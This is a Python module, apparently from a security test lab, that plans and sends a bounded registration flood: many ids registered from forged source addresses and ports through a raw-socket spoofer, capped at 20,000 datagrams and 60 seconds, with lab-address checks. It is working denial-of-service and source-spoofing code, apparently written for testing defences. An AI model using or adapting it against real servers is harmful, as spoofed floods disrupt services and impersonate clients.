"""A registration flood: many ids from many forged sources, bounded in count and in time.

``plan`` is pure: which id registers from which source. Sources are the given hosts of one network, each
with ports counting up from :data:`FIRST_PORT`, so every (address, port) is new; ``run`` sends the plan
through a raw socket at a steady rate and stops at the count or the time limit, whichever comes first.
"""

from __future__ import annotations

import ipaddress
import time
from collections.abc import Sequence
from dataclasses import dataclass

from attacks import forms
from attacks.packets import Datagram, check_lab
from attacks.raw import Sent, Spoofer
from protocol import Endpoint

MAX_COUNT = 20_000
MAX_SECONDS = 60.0
FIRST_PORT = 20_000
BATCH = 100
"""Datagrams sent between two looks at the clock."""


@dataclass(frozen=True)
class Flood:
    """What a flood did: what it sent, in how long, from how many source addresses (each port is new)."""

    sent: Sent
    seconds: float
    addresses: int

    def to_json(self) -> dict[str, object]:
        rate = self.sent.datagrams / self.seconds if self.seconds else None
        return {**self.sent.to_json(), "seconds": round(self.seconds, 3), "per_s": rate, "addresses": self.addresses}


def plan(count: int, server: Endpoint, network: ipaddress.IPv4Network, hosts: range, prefix: str) -> list[Datagram]:
    """``count`` registrations of ids ``<prefix><n>``, spread round-robin over ``hosts`` of ``network``."""
    if not 0 < count <= MAX_COUNT:
        raise ValueError(f"count must be 1..{MAX_COUNT}, not {count}")
    addresses = [str(network.network_address + host) for host in hosts]
    if not addresses or any(ipaddress.IPv4Address(a) not in network for a in addresses):
        raise ValueError(f"hosts {hosts.start}-{hosts.stop - 1} are not addresses of {network}")
    datagrams = []
    for n in range(count):
        source = Endpoint(addresses[n % len(addresses)], FIRST_PORT + n // len(addresses))
        datagrams.append(Datagram(check_lab(source), check_lab(server), forms.register(f"{prefix}{n}")))
    return datagrams


def run(datagrams: Sequence[Datagram], rate: float, max_seconds: float = MAX_SECONDS) -> Flood:
    """Send ``datagrams`` at about ``rate`` per second; stop after ``max_seconds`` (at most
    :data:`MAX_SECONDS`) whatever is left."""
    max_seconds = min(max_seconds, MAX_SECONDS)
    start = time.monotonic()
    with Spoofer() as spoofer:
        for offset in range(0, len(datagrams), BATCH):
            elapsed = time.monotonic() - start
            if elapsed >= max_seconds:
                break
            ahead = offset / rate - elapsed
            if ahead > 0:
                time.sleep(ahead)  # pacing the flood to its rate, not waiting for a condition
            for datagram in datagrams[offset : offset + BATCH]:
                spoofer.send(datagram)
    addresses = len({d.src.host for d in datagrams[: spoofer.sent.datagrams]})
    return Flood(spoofer.sent, time.monotonic() - start, addresses)
